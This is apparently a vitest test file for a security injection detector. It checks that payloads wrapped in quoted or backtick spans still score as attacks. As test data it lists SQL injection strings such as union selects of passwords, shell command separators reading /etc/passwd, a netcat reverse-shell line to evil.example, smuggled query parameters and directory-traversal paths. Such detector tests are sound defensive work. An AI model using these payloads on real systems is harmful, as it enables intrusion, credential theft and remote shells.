import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { quotedSpanInSentence } from '../../src/security/prose-post.js';
import { quotedStringHoldsCode } from '../../src/security/quoted-code.js';

// Review of forms6 (rev4): payloads wrapped in the quoted-span and code-span exemptions. Each one works
// when the application puts the value in a string of the same quote (SQL `'...'` or `"..."`, a shell
// `"..."`), or splits the query string itself; each scored 0 after forms6. Values written for these tests.
const d = new InjectionDetector();
const score = (v: string) => d.score(v).score;
const rawQuery = (q: string) => {
  const out: unknown[] = [];
  new InjectionDetector().observe({ time: 0, severityNumber: 0, severityText: '', message: '', attributes: { 'url.query': q }, eventName: '' }, out as never);
  return out.length;
};

describe('a quote inside quoted code closes the application string of that quote', () => {
  it.each([
    `hi there "a ' or 1=1 -- '"`,
    `look at "x ' union select password from users -- '" now`,
    `name: "x ' or 1=1 -- '" - any idea?`,
    `why does "x ' or sleep(5) -- '" hang?`,
    `look at "x ' or 1=1#'"`,
    "see `a ' or 1=1 -- '` here",
    "see `a 'or 1=1 or' b` here",
    "see `a '||(select password from users limit 1)||' b` here",
  ])('attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it('keeps literals, not code', () => {
    const a = `try "select * from users where name = 'bob'" instead`;
    expect(quotedSpanInSentence(a, a.indexOf('"'))).toBe(a.lastIndexOf('"'));
    expect(score(a)).toBe(0);
    expect(quotedStringHoldsCode(a, 5, a.lastIndexOf('"'), 39)).toBe(false);
    expect(quotedStringHoldsCode(`"a ' or 1=1 -- '"`, 1, 16, 39)).toBe(true);
    expect(quotedStringHoldsCode(`find . -name "*.log" -mtime +7`, 0, 30, 34)).toBe(false);
    expect(quotedStringHoldsCode(`awk -F, '{print $2}' data.csv`, 0, 29, 39)).toBe(false);
    expect(quotedStringHoldsCode(`a 'or 1=1 or' b`, 0, 15, 39)).toBe(true);
    expect(quotedStringHoldsCode(`a '||(select 1)||' b`, 0, 20, 39)).toBe(true);
    expect(quotedStringHoldsCode(`a 'x--' b`, 0, 9, 39)).toBe(true);
  });
});

describe('a command separator or a comment inside quoted code breaks out of a string of that quote', () => {
  it.each([
    'when i run "x; cat /etc/passwd" it fails',
    'when i run "x && cat /etc/passwd" it fails',
    'when i run "x | nc evil.example 4444 -e /bin/sh" it fails',
    "the output of 'cat /etc/passwd; id' is empty",
    'i tried "order by 5#" ok',
    "i tried 'order by 5--' ok",
  ])('attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it.each(['try "select 1;" instead', 'Compare "GROUP BY 1" and "GROUP BY name" please', 'we ran "make test" twice'])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
});

describe('a parameter smuggled inside quoted code is read as a parameter', () => {
  it.each(['q=see "foo&id=1 union select password from users--"', 'x=1&q=update "t&id=1 union select 1--" now'])('attack: %s', (v) => {
    expect(rawQuery(v)).toBeGreaterThan(0);
  });
});

describe('quoted code climbing three directories is reported, as in a post', () => {
  it.each(['see "../../../etc/passwd" now', 'see `../../../etc/passwd` here', 'i get this: `../../../../etc/passwd`'])('attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
  it.each(['is `ls -la /var/../logs` safe?', 'see "../readme.md" for details'])('clean: %s', (v) => {
    expect(score(v)).toBe(0);
  });
});

describe('quoted code opening with an operator word that follows a string (MySQL `collate`, `sounds like`)', () => {
  it.each(["the output of 'collate utf8mb4_bin or 1=1 or' is empty", 'i tried "sounds like x or 1=1 or" ok'])('attack: %s', (v) => {
    expect(score(v)).toBeGreaterThanOrEqual(5);
  });
});
